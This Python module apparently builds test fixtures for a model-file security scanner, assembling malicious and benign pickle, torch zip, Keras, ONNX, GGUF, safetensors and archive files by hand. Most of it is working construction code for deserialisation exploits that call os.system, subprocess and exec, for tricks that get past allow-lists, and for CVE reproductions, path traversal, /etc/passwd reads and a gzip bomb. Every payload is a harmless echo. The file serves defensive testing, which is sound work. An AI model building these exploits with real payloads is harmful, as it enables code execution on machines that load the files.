"""Hostile and benign model files, built in code (opcode by opcode, header by header).

Every malicious sample carries a harmless payload (`echo tutela-test`) and is never loaded.
The benchmark (bench/model_scanners.py) writes this same corpus to disk for the peer scanners.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

PAYLOAD = b"echo tutela-test"


# ----------------------------------------------------------------------------- pickle building
def _su(s: str) -> bytes:  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def global_call(module: str, name: str, arg: bytes = PAYLOAD, proto: int = 2) -> bytes:
    """module.name(arg) as GLOBAL/REDUCE (protocol 2) or STACK_GLOBAL (protocol 4)."""
    if proto >= 4:
        head = b"\x80\x04" + _su(module) + _su(name) + b"\x93"
    else:
        head = b"\x80" + bytes([proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    return head + b"X" + struct.pack("<I", len(arg)) + arg + b"\x85R."


def proto0_call(module: str, name: str, arg: bytes = PAYLOAD) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(S'" + arg + b"'\ntR."


def memo_stack_global() -> bytes:
    """STACK_GLOBAL whose strings come from the memo, not from literals next to it."""
    return (
        b"\x80\x04" + _su("os") + b"\x94" + _su("system") + b"\x94" + b"0" + b"0"  # memoise both, pop both
        b"h\x00h\x01\x93" + _su(PAYLOAD.decode()) + b"\x85R."
    )


def dotted_chain() -> bytes:
    """Protocol 4 attribute walk: an innocuous module, then `os.system` through its attributes."""
    return global_call("numpy.testing._private.utils", "os.system", proto=4)


def broken_after_reduce() -> bytes:
    """nullifAI: the payload runs, then the stream breaks (no STOP), so strict parsers give up."""
    return global_call("os", "system")[:-1] + b"\xff\xfe garbage"


def nested_b64_loads() -> bytes:
    inner = base64.b64encode(global_call("subprocess", "check_output")).decode()
    return (
        b"\x80\x04"
        + _su("pickle")
        + _su("loads")
        + b"\x93"
        + _su("base64")
        + _su("b64decode")
        + b"\x93"
        + b"X"
        + struct.pack("<I", len(inner))
        + inner.encode()
        + b"\x85R\x85R."
    )


def state_dict_pickle(extra: bytes = b"") -> bytes:
    """A benign torch-like data.pkl: an OrderedDict with one persistent tensor reference."""
    return (
        b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weightq\x02"
        b"ctorch._utils\n_rebuild_tensor_v2\nq\x03((X\x07\x00\x00\x00storageq\x04ctorch\nFloatStorage\nq\x05"
        b"X\x01\x00\x00\x000q\x06X\x03\x00\x00\x00cpuq\x07K\x04tq\x08QK\x00K\x04\x85K\x01\x85\x89h\x00)Rq\x09tq\x0a"
        b"Rq\x0bs" + extra + b"."
    )


# ----------------------------------------------------------------------------- zip building
def torch_zip(pkl: bytes, *, prefix: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", pkl)
        z.writestr(f"{prefix}/byteorder", b"little")
        z.writestr(f"{prefix}/data/0", struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
        for name, data in (extra or {}).items():
            z.writestr(f"{prefix}/{name}", data)
        z.writestr(f"{prefix}/version", b"3\n")
    return buf.getvalue()


def _patch_member(data: bytes, name: str, fn: Callable[[bytearray, int, bool], None]) -> bytes:
    out = bytearray(data)
    enc = name.encode()
    pos = out.find(b"PK\x03\x04" + b"")
    while pos >= 0:
        nlen = struct.unpack_from("<H", out, pos + 26)[0]
        if bytes(out[pos + 30 : pos + 30 + nlen]) == enc:
            fn(out, pos, True)
        pos = out.find(b"PK\x03\x04", pos + 4)
    pos = out.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", out, pos + 28)[0]
        if bytes(out[pos + 46 : pos + 46 + nlen]) == enc:
            fn(out, pos, False)
        pos = out.find(b"PK\x01\x02", pos + 4)
    return bytes(out)


def zip_name_mismatch(data: bytes, name: str = "archive/data.pkl") -> bytes:
    """CVE-2025-1944: the local header names another file than the central directory."""

    def fn(out: bytearray, pos: int, local: bool) -> None:
        if local:
            out[pos + 30 + len(name) - 5] ^= 0x01  # "data.pkl" -> "data/pkl"-like, same length

    return _patch_member(data, name, fn)


def zip_flag_bits(data: bytes, name: str = "archive/data.pkl") -> bytes:
    """CVE-2025-1945: the "encrypted" flag bit set; zipfile refuses, torch reads."""

    def fn(out: bytearray, pos: int, local: bool) -> None:
        at = pos + (6 if local else 8)
        struct.pack_into("<H", out, at, struct.unpack_from("<H", out, at)[0] | 0x0001)

    return _patch_member(data, name, fn)


def zip_bad_crc(data: bytes, name: str = "archive/data.pkl") -> bytes:
    """CVE-2025-10156: a wrong CRC32 in both headers; zipfile raises BadZipFile, torch ignores it."""

    def fn(out: bytearray, pos: int, local: bool) -> None:
        at = pos + (14 if local else 16)
        struct.pack_into("<I", out, at, struct.unpack_from("<I", out, at)[0] ^ 0xDEADBEEF)

    return _patch_member(data, name, fn)


def sevenzip(name: str, data: bytes) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(data, name)
    return buf.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


# ----------------------------------------------------------------------------- protobuf building
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_field(num: int, payload: bytes | int) -> bytes:
    if isinstance(payload, int):
        return _varint(num << 3) + _varint(payload)
    return _varint(num << 3 | 2) + _varint(len(payload)) + payload


def tf_node(name: str, op: str) -> bytes:
    return pb_field(1, name.encode()) + pb_field(2, op.encode())


def saved_model(graph_ops: list[str], function_ops: list[str] = ()) -> bytes:  # type: ignore[assignment]
    graph = b"".join(pb_field(1, tf_node(f"n{i}", op)) for i, op in enumerate(graph_ops))
    if function_ops:
        fdef = b"".join(pb_field(3, tf_node(f"f{i}", op)) for i, op in enumerate(function_ops))
        graph += pb_field(2, pb_field(1, fdef))
    meta_graph = pb_field(2, graph)
    return pb_field(1, 1) + pb_field(2, meta_graph)


def onnx_model(*, domain: str = "", location: str | None = None) -> bytes:
    node = pb_field(1, b"x") + pb_field(2, b"y") + pb_field(4, b"Relu" if not domain else b"Evil")
    if domain:
        node += pb_field(7, domain.encode())
    tensor = pb_field(8, b"w")
    if location is not None:
        tensor += pb_field(13, pb_field(1, b"location") + pb_field(2, location.encode())) + pb_field(14, 1)
    graph = pb_field(1, node) + pb_field(2, b"g") + pb_field(5, tensor)
    return pb_field(1, 8) + pb_field(7, graph) + pb_field(8, pb_field(1, b"") + pb_field(2, 17))


# ----------------------------------------------------------------------------- other formats
def gguf(template: str) -> bytes:
    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    kv = [
        s("general.architecture") + struct.pack("<I", 8) + s("llama"),
        s("tokenizer.ggml.tokens") + struct.pack("<I", 9) + struct.pack("<IQ", 8, 3) + s("a") + s("b") + s("c"),
        s("llama.context_length") + struct.pack("<I", 4) + struct.pack("<I", 2048),
        s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template),
    ]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + b"".join(kv)


CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content']}}"
    "{{ '<|im_end|>' + '\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for m in messages %}{{ m['content'] }}{% endfor %}"


def safetensors(tensors: dict[str, tuple[str, list[int], tuple[int, int]]], data: bytes, meta: object = None) -> bytes:
    header: dict[str, object] = {
        k: {"dtype": d, "shape": s, "data_offsets": list(o)} for k, (d, s, o) in tensors.items()
    }
    if meta is not None:
        header["__metadata__"] = meta
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def keras_archive(config: dict[str, object]) -> bytes:
    return zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.8.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


def keras_config(layers: list[dict[str, object]]) -> dict[str, object]:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}}


DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"units": 2, "activation": "relu"},
    "registered_name": None,
}


def npy_object_array(pkl: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pkl


# ----------------------------------------------------------------------------- the corpus
# ----------------------------------------------------------------------------- attacker's view
def _g(module: str, name: str) -> bytes:  # GLOBAL (protocols 0-3)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _s(text: bytes | str) -> bytes:  # BINUNICODE
    b = text.encode() if isinstance(text, str) else text
    return b"X" + struct.pack("<I", len(b)) + b


def getattr_import_chain() -> bytes:
    """getattr(__import__('os'), 'system')('echo ...'): every step through builtins."""
    return (
        b"\x80\x02"
        + _g("builtins", "getattr")
        + b"("
        + _g("builtins", "__import__")
        + _s("os")
        + b"\x85R"
        + _s("system")
        + b"tR"
        + _s(PAYLOAD)
        + b"\x85R."
    )


def partial_wrapper(module: str = "os", name: str = "system") -> bytes:
    """functools.partial(module.name, payload)() : the callable hides inside a wrapper."""
    return b"\x80\x02" + _g("functools", "partial") + _g(module, name) + _s(PAYLOAD) + b"\x86R)R."


def reduce_wrapper() -> bytes:
    """functools.reduce(os.system-like callable, [payload]) : calls through a higher-order function."""
    return b"\x80\x02" + _g("functools", "reduce") + _g("os", "system") + b"]" + _s(PAYLOAD) + b"a" + b"\x86R."


def attrgetter_on_module() -> bytes:
    """operator.attrgetter('system')(<the os module, reached via importlib>)(payload)."""
    return (
        b"\x80\x02"
        + _g("operator", "attrgetter")
        + _s("system")
        + b"\x85R"
        + _g("importlib", "import_module")
        + _s("os")
        + b"\x85R\x85R"
        + _s(PAYLOAD)
        + b"\x85R."
    )


def methodcaller_on_module() -> bytes:
    return (
        b"\x80\x02"
        + _g("_operator", "methodcaller")
        + _s("system")
        + _s(PAYLOAD)
        + b"\x86R"
        + _g("pydoc", "locate")
        + _s("os")
        + b"\x85R\x85R."
    )


def memo_callable_reuse() -> bytes:
    """os.system memoised early, popped, buried under benign data, then fetched (BINGET) and called."""
    return (
        b"\x80\x02"
        + _g("os", "system")
        + b"q\x000"
        + b"}q\x01"
        + _s("lr")
        + b"G?\xb9\x99\x99\x99\x99\x99\x9a"
        + b"s0"
        + b"h\x00"
        + _s(PAYLOAD)
        + b"\x85R."
    )


def extension_code(code: int = 0xF0) -> bytes:
    """EXT1: the callable comes from copyreg's extension registry, chosen by whoever registered it."""
    return b"\x80\x02\x82" + bytes([code]) + _s(PAYLOAD) + b"\x85R."


def inst_odd_module(module: str = "os", name: str = "system") -> bytes:
    """Protocol 0 INST with the payload as its argument; module names as the test picks."""
    return b"(S'" + PAYLOAD + b"'\ni" + module.encode() + b"\n" + name.encode() + b"\n."


def obj_from_getattr() -> bytes:
    """OBJ whose class is built by getattr on a module object: no GLOBAL names os.system at all."""
    return (
        b"\x80\x01("
        + _g("builtins", "getattr")
        + b"("
        + _g("importlib", "import_module")
        + _s("os")
        + b"tR"
        + _s("system")
        + b"tR"
        + _s(PAYLOAD)
        + b"o."
    )


def proto0_unicode_escape() -> bytes:
    """Protocol 0 UNICODE ('V') with raw-unicode-escapes for the payload, and a '\r' in a comment-free stream."""
    return b"cos\nsystem\n(V\\u0065cho tutela-test\ntR."


def torch_load_nested() -> bytes:
    """torch.load of an in-pickle BytesIO holding another (malicious) torch file."""
    inner = torch_zip(global_call("os", "system"))
    blob = b"B" + struct.pack("<I", len(inner)) + inner  # BINBYTES
    return b"\x80\x03" + _g("torch", "load") + _g("io", "BytesIO") + blob + b"\x85R\x85R."


def symlink_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("pickle")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        t.addfile(info)
        data = pickle.dumps({"little_endian": True}, 2)
        info = tarfile.TarInfo("sys_info")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def traversal_tar() -> bytes:
    data = pickle.dumps({"a": 1}, 2)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("../../.bashrc")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gzip_bomb(mib: int = 64) -> bytes:
    import gzip

    return gzip.compress(b"\x00" * (mib << 20), compresslevel=9)


def attacker() -> dict[str, bytes]:
    """Ways around an allow-list design, each with a harmless payload (tests/posture/test_attacker.py)."""
    return {
        "atk_getattr_import_chain.pkl": getattr_import_chain(),
        "atk_partial_os_system.pkl": partial_wrapper(),
        "atk_partial_pydoc_pipepager.pkl": partial_wrapper("pydoc", "pipepager"),
        "atk_reduce_wrapper.pkl": reduce_wrapper(),
        "atk_attrgetter_importlib.pkl": attrgetter_on_module(),
        "atk_methodcaller_pydoc_locate.pkl": methodcaller_on_module(),
        "atk_copyreg_reconstructor_os.pkl": global_call("copyreg", "_reconstructor.__globals__", proto=4),
        "atk_code_interact.pkl": global_call("code", "InteractiveInterpreter.runsource", proto=4),
        "atk_codeop_compile.pkl": global_call("codeop", "compile_command"),
        "atk_timeit.pkl": global_call("timeit", "timeit", b"__import__('os')"),
        "atk_pty_spawn.pkl": global_call("pty", "spawn"),
        "atk_idlelib_runcode.pkl": global_call("idlelib.pyshell", "ModifiedInterpreter.runcode", proto=4),
        "atk_distutils_spawn.pkl": global_call("distutils.spawn", "spawn"),
        "atk_setuptools_sandbox.pkl": global_call("setuptools.sandbox", "run_setup"),
        "atk_multiprocessing_util.pkl": global_call("multiprocessing.util", "spawnv_passfds"),
        "atk_shelve_open.pkl": global_call("shelve", "open"),
        "atk_tempfile_then_open.pkl": global_call("tempfile", "mktemp")[:-1]
        + b"0"
        + global_call("builtins", "open")[2:],
        "atk_torch_load_nested.pkl": torch_load_nested(),
        "atk_torch_jit_load.pkl": global_call("torch.jit", "load"),
        "atk_torch_c_import_ir.pkl": global_call("torch._C", "import_ir_module"),
        "atk_numpy_f2py.pkl": global_call("numpy.f2py.crackfortran", "getlincoef"),
        "atk_numpy_testing_runstring.pkl": global_call("numpy.testing._private.utils", "runstring"),
        "atk_numpy_distutils_exec.pkl": global_call("numpy.distutils.exec_command", "exec_command"),
        "atk_pandas_read_pickle.pkl": global_call("pandas", "read_pickle"),
        "atk_joblib_load_nested.pkl": global_call("joblib", "load"),
        "atk_dill_create_function.pkl": global_call("dill._dill", "_create_function"),
        "atk_cloudpickle_make_function.pkl": global_call("cloudpickle.cloudpickle", "_make_function"),
        "atk_py2_builtin_getattr.pkl": proto0_call("__builtin__", "getattr"),
        "atk_builtins_module_name.pkl": global_call("__builtins__", "eval", b"1"),
        "atk_proto0_unicode_escape.pkl": proto0_unicode_escape(),
        "atk_memo_callable_reuse.pkl": memo_callable_reuse(),
        "atk_ext1_code.pkl": extension_code(),
        "atk_inst_dotted_module.pkl": inst_odd_module("os.path", "os.system"),
        "atk_inst_homoglyph.pkl": inst_odd_module("\u043es", "system"),  # Cyrillic o
        "atk_obj_from_getattr.pkl": obj_from_getattr(),
        "atk_unicode_fullwidth.pkl": global_call("\uff4f\uff53", "system", proto=4),
        "atk_zip_in_zip_in_tar.tar": tar_of(
            {"outer.zip": zip_of({"inner.zip": zip_of({"m.pkl": global_call("os", "system")})})}
        ),
        "atk_tar_symlink.tar": symlink_tar(),
        "atk_tar_traversal.tar": traversal_tar(),
        "atk_zip_traversal.zip": zip_of({"../../evil.pkl": pickle.dumps({"a": 1}, 2)}),
        "atk_gzip_bomb.pkl.gz": gzip_bomb(),
        "atk_logging_filehandler.pkl": global_call("logging", "FileHandler", b"/tmp/tutela-test"),
        "atk_uuid_get_command_stdout.pkl": global_call("uuid", "_get_command_stdout", b"echo"),
        "atk_asyncio_subprocess.pkl": global_call("asyncio.subprocess", "create_subprocess_shell"),
        "atk_ssl_get_cert.pkl": global_call("ssl", "get_server_certificate"),
    }


def malicious() -> dict[str, bytes]:
    """name -> bytes; every one must be flagged at blocking severity (high or critical)."""
    evil = global_call("os", "system")
    evil_torch = torch_zip(state_dict_pickle()[:-1] + b"0" + global_call("os", "system")[2:])
    out = {
        "plain_os_system.pkl": evil,
        "proto0_posix_system.pkl": proto0_call("posix", "system"),
        "proto4_subprocess.pkl": global_call("subprocess", "Popen", proto=4),
        "builtins_exec.pkl": global_call("builtins", "exec", b"print('tutela-test')"),
        "py2_commands.pkl": global_call("commands", "check_output"),  # _compat_pickle -> subprocess
        "py2_builtin_eval.pkl": proto0_call("__builtin__", "eval", b"1+1"),
        "memo_stack_global.pkl": memo_stack_global(),
        "proto0_inst.pkl": b"(S'" + PAYLOAD + b"'\nios\nsystem\n.",
        "proto1_obj.pkl": b"(cos\nsystem\nX" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD + b"o.",
        "stacked_proto0_after_benign.pkl": pickle.dumps({"a": 1}, 2) + proto0_call("os", "system"),
        "onnx_custom_domain.onnx": onnx_model(domain="com.attacker.ops"),
        "dotted_chain.pkl": dotted_chain(),
        "nested_b64_loads.pkl": nested_b64_loads(),
        "cve_2025_1716_pip_main.pkl": global_call("pip", "main", b"install"),
        "cve_2025_1889_hidden_member.pt": torch_zip(state_dict_pickle(), extra={"extra/config.txt": evil}),
        "cve_2025_1944_name_mismatch.pt": zip_name_mismatch(evil_torch),
        "cve_2025_1945_flag_bits.pt": zip_flag_bits(evil_torch),
        "cve_2025_10155_pickle_as_bin.bin": evil,
        "cve_2025_10156_bad_crc.pt": zip_bad_crc(evil_torch),
        "cve_2025_10157_asyncio_submodule.pkl": global_call("asyncio.unix_events", "_UnixSubprocessTransport"),
        "nullifai_broken.pkl": broken_after_reduce(),
        "nullifai_7z.7z": sevenzip("model.pt", torch_zip(broken_after_reduce())),
        "modelscan_ext_ckpt.ckpt": evil,
        "modelscan_ext_none": evil,
        "modelscan_ext_txt_proto0.txt": proto0_call("os", "system"),
        "savedmodel_matchingfiles.pb": saved_model(["Placeholder", "MatchingFiles"]),
        "savedmodel_pyfunc_in_function.pb": saved_model(["Placeholder"], ["PyFunc"]),
        "graph_writefile.pbtxt": b'node {\n  name: "w"\n  op: "WriteFile"\n}\n',
        "keras_cve_2025_1550.keras": keras_archive(
            keras_config(
                [
                    {
                        **DENSE,
                        "config": {
                            "units": 2,
                            "activation": {
                                "module": "os",
                                "class_name": "function",
                                "config": "system",
                                "registered_name": None,
                            },
                        },
                    }
                ]
            )
        ),
        "keras_lambda.keras": keras_archive(
            keras_config(
                [
                    {
                        "module": "keras.layers",
                        "class_name": "Lambda",
                        "config": {
                            "function": {
                                "class_name": "__lambda__",
                                "config": {"code": base64.b64encode(b"x").decode()},
                            }
                        },
                    }
                ]
            )
        ),
        "keras_get_file_cve_2025_8747.keras": keras_archive(
            keras_config(
                [
                    {
                        **DENSE,
                        "config": {
                            "units": 2,
                            "activation": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
                        },
                    }
                ]
            )
        ),
        "gguf_include.gguf": gguf("{% include '/etc/passwd' %}"),
        "zip_encrypted_member.zip": zip_flag_bits(
            zip_of({"model.pkl": bytes(range(7, 256)) * 4}, zipfile.ZIP_STORED), "model.pkl"
        ),
        "torch_legacy_tar.tar": tar_of({"sys_info": pickle.dumps({"little_endian": True}, 2), "pickle": evil}),
        "joblib_zlib.joblib": zlib.compress(evil),
        "gzip_nested.pkl.gz": __import__("gzip").compress(evil),
        "npy_object.npy": npy_object_array(evil),
        "npz_object.npz": zip_of({"arr_0.npy": npy_object_array(evil)}),
        "zip_in_zip.zip": zip_of({"inner.zip": zip_of({"model.pkl": evil})}),
        "gguf_ssti.gguf": gguf(SSTI),
        "onnx_external_escape.onnx": onnx_model(location="../../../../etc/passwd"),
        "safetensors_overlap.safetensors": safetensors(
            {"a": ("F32", [2], (0, 8)), "b": ("F32", [2], (4, 12))}, b"\x00" * 12
        ),
        "safetensors_header_bounds.safetensors": struct.pack("<Q", 1 << 20) + b'{"a": 1}',
        "polyglot_pickle_zip.pt": evil[:-1] + b"." + zip_of({"x/data.pkl": evil}),
    }
    out.update(attacker())
    return out


def benign() -> dict[str, bytes]:
    """name -> bytes built by hand in the layouts libraries write; none may be blocked."""
    return {
        "state_dict_by_hand.pt": torch_zip(state_dict_pickle()),
        "plain_dict.pkl": pickle.dumps({"lr": 0.1, "layers": [1, 2, 3], "name": "m"}, protocol=4),
        "ordered_dict_proto0.pkl": pickle.dumps(__import__("collections").OrderedDict(a=1), protocol=0),
        "chatml.gguf": gguf(CHATML),
        "ok.safetensors": safetensors(
            {"a": ("F32", [2], (0, 8)), "b": ("F16", [2], (8, 12))}, b"\x00" * 12, {"format": "pt"}
        ),
        "ok.onnx": onnx_model(),
        "ok_external.onnx": onnx_model(location="weights.bin"),
        "ok.keras": keras_archive(keras_config([DENSE])),
        "savedmodel_ok.pb": saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"], ["Relu"]),
        "readme.md": b"# A model card\n\nNothing to see here.\n",
        "config.json": json.dumps({"architectures": ["Bert"], "hidden_size": 8}).encode(),
    }
